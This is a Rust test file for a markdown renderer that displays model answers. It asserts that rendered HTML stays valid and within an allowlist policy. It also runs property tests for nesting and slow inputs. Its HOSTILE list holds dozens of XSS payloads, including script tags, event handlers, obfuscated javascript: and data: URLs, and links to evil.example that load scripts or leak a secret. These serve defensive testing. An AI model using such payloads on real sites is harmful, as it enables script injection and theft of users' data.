//! Whatever a model writes, the HTML is valid and holds nothing but what the policy allows.

use crate::{
    ANSWER, WORDS,
    html::{Token, assert_valid, tokens, visible},
};
use ammonia::Builder;
use markdown::render;
use proptest::{collection::vec, prelude::*, sample::select};

/// Inputs that have run scripts or loaded things elsewhere.
const HOSTILE: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/';</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<p/onclick=alert(1)>x",
    "</p></div></article><h1>x</h1>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/accounts/logout/)",
    "[x](#a)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?secret=1)",
    "![x\" onerror=\"alert(1)](https://evil.example/)",
    "[x](https://example.com/\"onclick=\"alert(1))",
    "[x](https://example.com/ \"\\\"><script>alert(1)</script>\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onmouseover=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | \" onfocus=\"alert(1) |\n|-|-|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

/// The policy, as another library understands it.
fn policy() -> Builder<'static> {
    let mut policy = Builder::empty();
    policy
        .add_tags([
            "a",
            "bdi",
            "blockquote",
            "br",
            "button",
            "code",
            "del",
            "div",
            "em",
            "figcaption",
            "figure",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "span",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ])
        .add_tag_attributes("a", ["href"])
        .add_tag_attributes("bdi", ["class"])
        .add_tag_attributes("button", ["type", "class", "hidden"])
        .add_tag_attributes("div", ["class", "role", "aria-label", "tabindex"])
        .add_tag_attributes("figure", ["class"])
        .add_tag_attributes("li", ["class"])
        .add_tag_attributes("ol", ["start"])
        .add_tag_attributes("pre", ["tabindex", "role", "aria-label"])
        .add_tag_attributes("span", ["class"])
        .add_tag_attributes("td", ["class"])
        .add_tag_attributes("th", ["class", "scope"])
        .add_url_schemes(["http", "https", "mailto"])
        .link_rel(Some("noopener noreferrer nofollow"));
    policy
}

fn assert_safe(text: &str) {
    let policy = policy();
    for block in render(text, &WORDS) {
        assert_valid(&block);
        assert_eq!(policy.clean(&block).to_string(), block, "{text}");
    }
}

/// Text that is mostly markup.
pub fn markup() -> impl Strategy<Value = String> {
    let parts = select(vec![
        "*",
        "**",
        "_",
        "__",
        "~",
        "~~",
        "`",
        "``",
        "```",
        "~~~",
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "]:",
        "<",
        ">",
        "</",
        "<a ",
        "<br>",
        "<div>",
        "<!--",
        "-->",
        "&",
        "&amp;",
        "&#0;",
        "&nbsp;",
        "\\",
        "|",
        "|-|",
        "|a|b|\n|-|-|\n",
        ":-:",
        "-",
        "- ",
        "+ ",
        "* ",
        "1. ",
        "2) ",
        "- [ ] ",
        "[x] ",
        "#",
        "## ",
        "# ",
        "=",
        "===",
        "---",
        "> ",
        ">",
        " ",
        "  ",
        "    ",
        "\t",
        "\n",
        "\n",
        "\n\n",
        "\n  ",
        "\n    ",
        "\r\n",
        "\r",
        "a",
        "b c",
        "word ",
        "é",
        "☃",
        "\u{202e}",
        "\u{0}",
        "\u{a0}",
        "\u{feff}",
        "!",
        ".",
        ":",
        "\"",
        "'",
        "http://",
        "https://a.example/",
        "www.a.example",
        "b@a.example",
        "mailto:",
        "javascript:1",
        "[a]: /b\n",
        "[a]",
        "[a](https://b.example)",
        "```rust\n",
        "```\n",
        "let x = 1;\n",
        "<script>",
        "</div>\n",
    ]);
    prop_oneof![
        8 => vec(parts, 0..60).prop_map(|parts| parts.concat()),
        1 => any::<String>(),
        1 => (0..ANSWER.len()).prop_map(|end| ANSWER[..ANSWER.floor_char_boundary(end)].to_owned()),
    ]
}

/// A text, and the same text in pieces.
pub fn pieces_of(text: impl Strategy<Value = String>) -> impl Strategy<Value = (String, Vec<String>)> {
    (text, vec(1..12_usize, 1..6)).prop_map(|(text, lengths)| {
        let mut pieces = Vec::new();
        let mut rest = text.as_str();
        for length in lengths.iter().cycle() {
            if rest.is_empty() {
                break;
            }
            let (piece, after) = rest.split_at(rest.ceil_char_boundary(*length));
            pieces.push(piece.to_owned());
            rest = after;
        }
        (text, pieces)
    })
}

#[test]
fn hostile_inputs_become_text() {
    for text in HOSTILE {
        assert_safe(text);
        for around in [format!("- {text}"), format!("> {text}"), format!("a {text} b"), format!("**{text}**")] {
            assert_safe(&around);
        }
        for block in render(text, &WORDS) {
            for token in tokens(&block) {
                if let Token::Open("a", attributes) = token {
                    assert!(attributes.starts_with("href=\"https://"), "{text}: {block}");
                }
            }
        }
    }
}

#[test]
fn nothing_vanishes_that_is_not_markup() {
    for text in HOSTILE {
        let seen: String = render(text, &WORDS).iter().map(|block| visible(block)).collect();
        for word in ["alert", "evil.example", "script", "passwd", "logout"] {
            // What follows an allowed host is in the link's target, and a title is not used.
            if text.contains(word) && !text.contains("https://example.com/") {
                assert!(seen.contains(word), "{word} of {text}: {seen}");
            }
        }
    }
}

#[test]
fn an_answer_keeps_to_the_policy() {
    assert_safe(ANSWER);
}

#[test]
fn deep_nesting_ends() {
    for text in [
        "> ".repeat(2_000) + "end",
        "- ".repeat(2_000) + "end",
        "1. ".repeat(2_000) + "end",
        "*a **b ".repeat(500) + &"c** d*".repeat(500) + "end",
        "> - ".repeat(30) + "end\n\n```\ncode\n```",
        (0..60).map(|depth| format!("{}- a\n", "  ".repeat(depth))).collect::<String>() + "end",
        "> ".repeat(21) + "|a|b|\n" + &"> ".repeat(21) + "|-|-|\n" + &"> ".repeat(21) + "|c|end|",
        "> ".repeat(22) + "[a end](https://example.com)",
        "![".repeat(300) + "end" + &"](https://a.example)".repeat(300),
    ] {
        assert_safe(&text);
        let seen: String = render(&text, &WORDS).iter().map(|block| visible(block)).collect();
        assert!(seen.contains("end"), "{text}");
    }
}

#[test]
fn inputs_that_are_slow_in_some_parsers() {
    for piece in [
        "[", "![", "[](", "[a](", "*", "_", "*a_", "`", "`a", ">", "> ", "- ", "<", "<!--", "&", "|", "a@", "\\", "~",
        "(", "#",
    ] {
        assert_safe(&piece.repeat(10_000 / piece.len()));
        assert_safe(&format!("{}\n", piece).repeat(500));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(ProptestConfig::default().cases.max(600)))]

    #[test]
    fn any_text_is_safe(text in markup()) {
        assert_safe(&text);
    }

    #[test]
    fn every_text_shows_something(text in markup()) {
        prop_assert!(text.trim().is_empty() || !render(&text, &WORDS).is_empty());
    }
}
